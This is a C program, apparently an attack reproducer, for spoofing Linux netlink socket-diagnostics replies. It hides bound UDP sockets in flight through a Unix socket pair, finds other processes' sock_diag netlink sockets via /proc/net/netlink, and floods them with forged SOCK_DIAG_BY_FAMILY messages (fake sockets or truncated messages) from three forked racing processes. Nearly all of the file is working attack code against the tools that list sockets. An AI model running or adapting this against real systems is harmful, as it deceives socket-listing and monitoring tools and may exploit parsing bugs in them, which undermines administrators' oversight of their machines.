// Root of a user namespace of its own, with CAP_NET_ADMIN in its own network: answers in the
// kernel's place to whoever asks for sockets there. spoof PORTS HOW: that many sockets to be
// listed, all of them on their way through a socket pair. There no process has them: to look for
// whose they are would be most of a list, and that is not attacked. HOW is 1 for answers of sockets
// that there are not, 2 for messages that are shorter than they say.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static char message[32000];

enum { AT_ONCE = 200 };  // descriptors in one message; the kernel takes 253

static void send_away(int pair, const int* files, int count) {
  char byte = 0;
  struct iovec data = {&byte, 1};
  union {
    char space[CMSG_SPACE(AT_ONCE * sizeof *files)];
    struct cmsghdr header;
  } control = {.header = {CMSG_LEN(count * sizeof *files), SOL_SOCKET, SCM_RIGHTS}};
  memcpy(CMSG_DATA(&control.header), files, count * sizeof *files);
  struct msghdr away = {.msg_iov = &data,
                        .msg_iovlen = 1,
                        .msg_control = &control,
                        .msg_controllen = CMSG_SPACE(count * sizeof *files)};
  if (sendmsg(pair, &away, 0) != 1) perror("sendmsg"), _exit(1);
  for (int i = 0; i < count; i++) close(files[i]);
}

int main(int count, char** args) {
  const int ports = atoi(args[1]);
  const int is_short = atoi(args[2]) == 2;
  // It bounds what is on its way too, of all attackers of this user together.
  struct rlimit files_open;
  getrlimit(RLIMIT_NOFILE, &files_open);
  files_open.rlim_cur = files_open.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files_open);
  int pair[2], files[AT_ONCE];
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  for (int i = 0; i < ports; i++) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(2000 + i)};
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(udp, (void*)&address, sizeof address)) return perror("bind"), 1;
    files[i % AT_ONCE] = udp;
    if (i == ports - 1 || i % AT_ONCE == AT_ONCE - 1) send_away(pair[0], files, i % AT_ONCE + 1);
  }
  int sock = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_SOCK_DIAG);
  struct sockaddr_nl own = {.nl_family = AF_NETLINK};
  socklen_t length = sizeof own;
  bind(sock, (void*)&own, sizeof own);
  getsockname(sock, (void*)&own, &length);
  for (int at = 0; at + 88 <= (int)sizeof message; at += 88) {
    struct nlmsghdr* header = (void*)(message + at);
    header->nlmsg_len = is_short ? 20 : 88;
    header->nlmsg_type = 20;  // SOCK_DIAG_BY_FAMILY
    header->nlmsg_flags = NLM_F_MULTI;
    message[at + 16] = 2;
    message[at + 17] = 10;
    message[at + 20] = 0xde;  // port 57005
    message[at + 21] = 0xad;
  }
  const size_t size = is_short ? 20 : sizeof message / 88 * 88;
  puts("ready");
  fflush(stdout);
  if (fork() == 0) fork();  // three that do so: one alone is late for most lists of a busy machine
  unsigned known = 0;
  for (;;) {
    static char text[65536];
    int table = open("/proc/net/netlink", O_RDONLY);
    long got = read(table, text, sizeof text - 1);
    close(table);
    text[got > 0 ? got : 0] = 0;
    for (char* line = strchr(text, '\n'); line && line[1]; line = strchr(line + 1, '\n')) {
      unsigned protocol, port;
      if (sscanf(line + 1, "%*s %u %u", &protocol, &port) != 2) continue;
      if (protocol == NETLINK_SOCK_DIAG && port != own.nl_pid && port != 0) known = port;
    }
    struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = known};
    for (int i = 0; known && i < 30; i++) {
      for (size_t at = 0; at < size; at += 88) {
        struct nlmsghdr* header = (void*)(message + at);
        header->nlmsg_pid = known;
        header->nlmsg_seq = i % 3;
      }
      sendto(sock, message, size, 0, (void*)&to, sizeof to);
    }
  }
}
